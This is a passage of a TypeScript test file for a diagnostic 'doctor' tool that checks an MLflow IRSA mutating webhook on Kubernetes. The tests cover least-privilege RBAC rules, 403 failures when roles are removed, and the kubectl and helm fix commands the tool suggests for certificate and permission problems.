  const pod = objects.find((o) => o.kind === 'Pod' && o.metadata.name === 'mlflow-irsa-webhook-doctor');
  const args = pod.spec.containers[0].args as string[];
  const flag = (name: string) => args[args.indexOf(name) + 1];

  const w = await world(t);
  // Domino's mlflow container takes some env from a ConfigMap (envFrom), which deployment.credentials reads
  const dep = k8sFixture('deployment-mlflow-mutated');
  dep.spec.template.spec.containers[0].envFrom = [{ configMapRef: { name: 'mlflow-env' } }];
  w.stub.seed(P.dep, dep);
  w.stub.seed('/api/v1/namespaces/domino-platform/configmaps/mlflow-env', { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'mlflow-env', namespace: 'domino-platform' }, data: { GUNICORN_CMD_ARGS: '--workers 4' } });
  w.stub.rbac = rules;
  // doctor never connects to the webhook's pods itself (a NetworkPolicy admits the API server alone): the Service's
  // address does not answer here, and every webhook check still passes, through the API server
  const { results } = await w.doctor({ webhookConfig: flag('--webhook-config'), webhookNamespace: flag('--webhook-namespace'), tlsSecret: flag('--tls-secret'), resolveService: () => ({ host: '127.0.0.1', port: 1 }) });
  for (const r of kubernetesChecks(results)) t.equal(r.status, 'pass', `${r.id} with the test's RBAC: ${r.message}`);
  const needed = rules.flatMap((rule, i) => rule.verbs.map((verb) => `${i} ${verb}`));
  t.same([...w.stub.rbacUsed].sort(), needed.sort(), 'every rule and verb is used: nothing granted that the checks do not read');

  // and the stub's RBAC does refuse: without the ClusterRole the configuration cannot be read
  w.stub.rbac = rules.filter((r) => r.namespace !== undefined);
  const denied = (await w.doctor()).byId['webhook.configuration'];
  expectCheck(t, denied, 'fail', /may not read MutatingWebhookConfiguration mlflow-irsa-webhook: .*403 Forbidden/);
});

t.test('the helm test identity with credentials pod-identity: a Role in kube-system for the agent\'s DaemonSet, and every rule used', async (t) => {
  const objects = await render(['fullnameOverride=mlflow-irsa-webhook', 'credentials=pod-identity']);
  const roles = objects.filter((o) => (o.kind === 'Role' || o.kind === 'ClusterRole') && o.metadata.name.startsWith('mlflow-irsa-webhook-doctor'));
  t.same(roles.map((r) => `${r.kind}/${r.metadata.namespace ?? ''}/${r.metadata.name}`).sort(), ['ClusterRole//mlflow-irsa-webhook-doctor',
    'Role/domino-platform/mlflow-irsa-webhook-doctor', 'Role/kube-system/mlflow-irsa-webhook-doctor-pod-identity', 'Role/mlflow-irsa-webhook/mlflow-irsa-webhook-doctor-webhook']);
  const rules: RbacRule[] = roles.flatMap((r) => r.rules.map((rule: RbacRule) => ({ ...rule, namespace: r.metadata.namespace })));
  const w = await world(t, { config: podIdentity });
  const dep = k8sFixture('deployment-mlflow-pod-identity');
  dep.spec.template.spec.containers[0].envFrom = [{ configMapRef: { name: 'mlflow-env' } }];
  w.stub.seed(P.dep, dep);
  w.stub.seed('/api/v1/namespaces/domino-platform/configmaps/mlflow-env', { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'mlflow-env', namespace: 'domino-platform' }, data: { GUNICORN_CMD_ARGS: '--workers 4' } });
  w.stub.rbac = rules;
  const { results } = await w.doctor();
  for (const r of kubernetesChecks(results, podIdentity)) t.equal(r.status, 'pass', `${r.id} with the test's RBAC: ${r.message}`);
  const needed = rules.flatMap((rule, i) => rule.verbs.map((verb) => `${i} ${verb}`));
  t.same([...w.stub.rbacUsed].sort(), needed.sort(), 'every rule and verb is used, the agent\'s DaemonSet too');
  w.stub.rbac = rules.filter((r) => r.namespace !== 'kube-system');
  expectCheck(t, (await w.doctor()).byId['pod-identity.agent'], 'fail', /may not read DaemonSet kube-system\/eks-pod-identity-agent: .*403 Forbidden/,
    /^kubectl auth can-i get daemonset\/eks-pod-identity-agent -n kube-system$/);
});

t.test('certificate fixes follow who manages the certificate: cert-manager, else the chart\'s Jobs', async (t) => {
  const w = await world(t, { certDays: 10 });
  expectCheck(t, (await w.doctor()).byId['webhook.certificate'], 'warn', /expires in/, /^helm -n mlflow-irsa-webhook upgrade mlflow-irsa-webhook charts\/mlflow-irsa-webhook --reuse-values$/);
  const mwc = w.stub.object(P.mwc);
  mwc.metadata.annotations['cert-manager.io/inject-ca-from'] = `${NS}/${SVC}`;
  w.stub.seed(P.mwc, mwc);
  expectCheck(t, (await w.doctor()).byId['webhook.certificate'], 'warn', /expires in/, /^kubectl -n mlflow-irsa-webhook describe certificate mlflow-irsa-webhook$/);
});
